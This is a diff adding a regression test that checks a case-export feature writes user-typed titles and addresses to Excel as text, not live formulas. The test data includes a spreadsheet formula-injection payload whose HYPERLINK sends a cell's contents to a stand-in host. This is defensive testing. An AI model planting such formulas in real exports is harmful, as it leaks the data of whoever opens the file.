@@ -412,3 +412,26 @@ def test_the_hourly_sweep_removes_old_exports_and_fails_stalled_ones(
     recent.refresh_from_db()
     waiting.refresh_from_db()
     assert (recent.state, waiting.state) == (ExportState.DONE, ExportState.PENDING)
+
+
+def test_text_people_typed_is_exported_as_text_never_a_formula(world: World) -> None:
+    """Issue #9: a title typed as a formula was exported as a live formula, and a title with
+    control characters made the export answer 500 for everyone who could see the case."""
+    lat, lng = world.point_in(0)
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
+    services.case_submit(
+        actor=world.actor("resident"),
+        title=formula + "\x01\x07\x1b",
+        address="=1+1",
+        lat=lat,
+        lng=lng,
+        now=MONDAY_10AM,
+    )
+    response = login(world, "street").post("/cases/export/")
+    assert response.status_code == 200
+    ws = load_workbook(io.BytesIO(body(response))).active
+    assert ws is not None
+    headers = [c.value for c in ws[1]]
+    row = {h: c for h, c in zip(headers, ws[2], strict=True)}
+    assert (row["标题"].value, row["标题"].data_type) == (formula, "s")
+    assert (row["地址"].value, row["地址"].data_type) == ("=1+1", "s")
